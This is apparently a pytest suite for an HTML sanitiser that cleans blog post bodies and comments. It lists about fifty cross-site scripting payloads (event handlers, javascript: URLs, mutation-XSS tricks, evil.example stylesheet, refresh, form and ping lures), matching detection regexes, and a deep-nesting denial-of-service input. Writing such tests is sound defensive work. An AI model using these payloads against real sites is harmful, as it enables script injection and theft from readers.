"""What may reach a reader: hostile and dated HTML, body and comment policies."""

import re
from html.parser import HTMLParser

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from coranto.core.html.cleaning import clean_body, clean_comment
from coranto.core.html.depth import DEEPEST

HOSTILE = [
    "<script>alert(1)</script>",
    "<scr<script>ipt>alert(1)</script>",
    "<img src=x onerror=alert(1)>",
    "<img src='x' OnErRoR='alert(1)'>",
    "<svg onload=alert(1)><script>alert(1)</script></svg>",
    "<svg><a xlink:href='javascript:alert(1)'>x</a></svg>",
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)></style></mglyph></table></mtext></math>",
    "<math><mi><style><!--</style><img title='--&gt;&lt;img src=1 onerror=alert(1)&gt;'></mi></math>",
    "<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>",
    "<a href='javascript:alert(1)'>x</a>",
    "<a href='java\nscript:alert(1)'>x</a>",
    "<a href='&#106;avascript:alert(1)'>x</a>",
    "<a href=' \x01javascript:alert(1)'>x</a>",
    "<a href='vbscript:x'>x</a>",
    "<a href='data:text/html;base64,PHNjcmlwdD4='>x</a>",
    "<img src='data:image/svg+xml;base64,PHN2Zz4='>",
    "<img src='data:text/html,<script>alert(1)</script>'>",
    "<video poster='javascript:alert(1)' src='javascript:x'></video>",
    "<img srcset='javascript:alert(1) 1x'>",
    "<body onload=alert(1)>",
    "<iframe src='javascript:alert(1)'></iframe>",
    "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
    "<iframe src='https://www.youtube.example/embed/\"onload=alert(1)'></iframe>",
    "<object data='javascript:alert(1)'></object>",
    "<object data='https://evil.example/x.swf'><param name=movie value='javascript:alert(1)'></object>",
    "<embed src='https://evil.example/x.swf'>",
    "<form action='https://evil.example/'><input name=q><button formaction='javascript:x'>go</button></form>",
    "<base href='https://evil.example/'>",
    "<meta http-equiv=refresh content='0;url=https://evil.example/'>",
    "<link rel=stylesheet href='https://evil.example/x.css'>",
    "<style>@import 'https://evil.example/x.css';</style>",
    "<p style=\"background:url('https://evil.example/x')\">x</p>",
    "<p style='width:expression(alert(1))'>x</p>",
    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'></noscript>",
    "<template><img src=x onerror=alert(1)></template>",
    "<xmp><img src=x onerror=alert(1)></xmp>",
    "<plaintext><img src=x onerror=alert(1)>",
    "<!--<img src='--><img src=x onerror=alert(1)//'>-->",
    "<![CDATA[<img src=x onerror=alert(1)>]]>",
    "<?php echo 1; ?><img src=x onerror=alert(1)>",
    "<figure data-embed-src='https://evil.example/'>x</figure>",
    "<figure data-embed-src='https://www.youtube-nocookie.com/embed/x/../../evil'>x</figure>",
    "<a ping='https://evil.example/'>x</a>",
    "<a href='//evil.example/' target=_blank onclick=alert(1)>x</a>",
    "<textarea><img src=x onerror=alert(1)></textarea>",
    "<select><option><img src=x onerror=alert(1)></select>",
    "<p class='a\" onmouseover=\"alert(1)'>x</p>",
    '<IMG """><SCRIPT>alert(1)</SCRIPT>">',
    '<div id="comment-5" style="position:fixed;top:0;left:0;width:100%;height:100%">x</div>',
    "<font color='\"><script>alert(1)</script>'>x</font>",
    "<center align='\"onclick=\"alert(1)'>x</center>",
]
_UNSAFE = (
    "script style iframe object embed form input button base meta link svg template textarea select option noscript"
)
_UNSAFE_NAMES = frozenset(_UNSAFE.split())
_UNSAFE_ATTRIBUTES = re.compile(r"on\w+|style|srcdoc|formaction|target|ping|action|xlink:href")
_UNSAFE_ADDRESS = re.compile(r"[\s\0-\x1f]*(?:javascript|vbscript|data:(?!image/(?!svg)))", re.IGNORECASE)


class _Reader(HTMLParser):
    def __init__(self) -> None:
        super().__init__()
        self.unsafe: list[str] = []

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        if tag in _UNSAFE_NAMES:
            self.unsafe.append(tag)
        for name, value in attrs:
            if _UNSAFE_ATTRIBUTES.fullmatch(name) or (
                name in ("href", "src", "srcset", "poster", "cite", "longdesc") and _UNSAFE_ADDRESS.match(value or "")
            ):
                self.unsafe.append(f"{name}={value}")


def unsafe_markup(html: str) -> list[str]:
    """The elements and attributes in ``html`` that no cleaned body may hold."""
    reader = _Reader()
    reader.feed(html)
    reader.close()
    return reader.unsafe


@pytest.mark.parametrize("html", HOSTILE)
@pytest.mark.parametrize("clean", [clean_body, clean_comment])
def test_nothing_that_runs_survives(html: str, clean: object) -> None:
    assert callable(clean)
    cleaned = clean(html)
    assert unsafe_markup(cleaned) == []
    assert "data-embed-src" not in cleaned
    assert clean(cleaned) == cleaned


@settings(max_examples=300)
@given(
    st.lists(st.sampled_from([*HOSTILE, "<p>", "</p>", "<b>", "</b>", "<a href='x'>", "</a>", "<table>", "<td>", "x"]))
)
def test_no_mixture_of_hostile_pieces_survives_either(pieces: list[str]) -> None:
    for clean in (clean_body, clean_comment):
        cleaned = clean("".join(pieces))
        assert unsafe_markup(cleaned) == []
        assert unsafe_markup(clean(cleaned)) == []


KEPT = [
    '<p class="wp-block-paragraph has-large-font-size" id="x" lang="ar" dir="rtl">x</p>',
    '<figure class="wp-block-image size-large"><img src="/a.jpg" alt="" class="wp-image-5" srcset="/a-300x200.jpg 300w,'
    ' /a.jpg 1024w" sizes="(max-width: 1024px) 100vw, 1024px" width="1024" height="683" loading="lazy"></figure>',
    '<picture><source srcset="/a.webp" type="image/webp"><img src="/a.jpg" alt="x"></picture>',
    '<video controls="" poster="/p.jpg"><source src="/v.mp4"><track src="/v.vtt" kind="captions"></video>',
    '<audio controls="" src="/a.mp3"></audio>',
    '<details open=""><summary>s</summary>t</details>',
    "<ruby>漢<rp>(</rp><rt>kan</rt><rp>)</rp></ruby>",
    '<table><thead><tr><th scope="col" colspan="2">a</th></tr></thead><tbody><tr><td>b</td></tr></tbody></table>',
    '<a href="mailto:a@example.org" rel="nofollow" aria-label="Write">x</a>',
    '<ol start="3" reversed="" type="a"><li value="9">x</li></ol>',
    '<img src="data:image/png;base64,iVBORw0KGgo=" alt="">',
    '<p>a &lt;b&gt; &amp; "c" ’ &nbsp;</p>',
    '<figure class="embed" data-embed-provider="youtube" data-embed-src="https://www.youtube-nocookie.com/embed/a1">'
    '<a href="https://youtu.be/a1">YouTube: youtu.be/a1</a></figure>',
]


@pytest.mark.parametrize("html", KEPT)
def test_what_wordpress_blocks_print_is_kept_as_it_is(html: str) -> None:
    assert clean_body(html) == html


DATED = [
    ('<p style="text-align: center;">x</p>', '<p class="has-text-align-center">x</p>'),
    ('<p align="right">x</p>', '<p class="has-text-align-right">x</p>'),
    ('<p style="padding-left: 60px">x</p>', '<p class="is-indented-2">x</p>'),
    ('<img align="left" border="0" src="a.jpg">', '<img class="alignleft" src="a.jpg">'),
    ('<img style="width:300px;float:right" src="a.jpg">', '<img class="alignright" src="a.jpg" width="300">'),
    ('<span style="color:#f00">x</span>', '<span class="has-text-color has-vivid-red-color">x</span>'),
    ('<span style="color:#000;font-family:Arial">x</span>', "x"),
    ('<span style="text-decoration: underline;">x</span>', '<span class="is-underlined">x</span>'),
    ("<center><big>x</big></center>", '<div class="has-text-align-center"><span class="is-large">x</span></div>'),
    ("<strike>a</strike> <tt>b</tt> <acronym title=t>c</acronym>", '<s>a</s> <code>b</code> <abbr title="t">c</abbr>'),
    ('<a name="top"></a>', '<a id="top"></a>'),
    ('<table border="1" width="50%"><tr><td valign="top" width="40">x</td></tr></table>',
     '<table class="is-width-50"><tbody><tr><td>x</td></tr></tbody></table>'),
    ('<div class="column" style="flex-basis:33.33%">x</div>', '<div class="column is-width-33">x</div>'),
    ('<p style="direction:rtl">x</p>', '<p dir="rtl">x</p>'),
    ('<p id="a">x</p><p id="a" class="b">y</p>', '<p id="a">x</p><p class="b">y</p>'),
    ('<ins cite="no address">x</ins>', "<ins>x</ins>"),
    ('<a href="/x" target="_blank" rel="noopener noreferrer nofollow">x</a>', '<a href="/x" rel="nofollow">x</a>'),
]  # fmt: skip


@pytest.mark.parametrize(("html", "expected"), DATED)
def test_styles_and_dated_markup_become_classes(html: str, expected: str) -> None:
    assert clean_body(html) == expected


def test_a_comment_keeps_the_tags_of_text_and_loses_the_others() -> None:
    html = '<h1 id="a">h</h1><img src="/p.png"><b>b</b><script>alert(1)</script><a href="/x" title="t">l</a>'
    expected = '<h1>h</h1><b>b</b>alert(1)<a href="/x" title="t" rel="nofollow ugc">l</a>'
    assert clean_comment(html) == expected


@pytest.mark.parametrize("name", ["div", "blockquote", "pre", "section", "ul><li", "table><tr><td"])
def test_elements_nested_without_end_take_linear_time_and_keep_their_text(name: str) -> None:
    """Minutes or hours in the parser otherwise; there is no clock here, only the patience of who waits."""
    ends = "".join(f"</{each}>" for each in reversed(name.split("><")))
    cleaned = clean_body(f"<{name}>" * 100_000 + "the middle" + ends * 100_000 + "<p>after</p>")
    assert "the middle" in cleaned and cleaned.rstrip().endswith("<p>after</p>")
    assert cleaned.count(f"<{name.partition('>')[0]}") == DEEPEST


def test_what_is_long_and_not_deep_is_cleaned_as_ever() -> None:
    piece = '<div class="a"><ul><li>one<li>two</ul><p>three<p>four<br><img src="/a.png" alt=""><b>five</b></div>'
    assert clean_body(piece * 600) == clean_body(piece) * 600
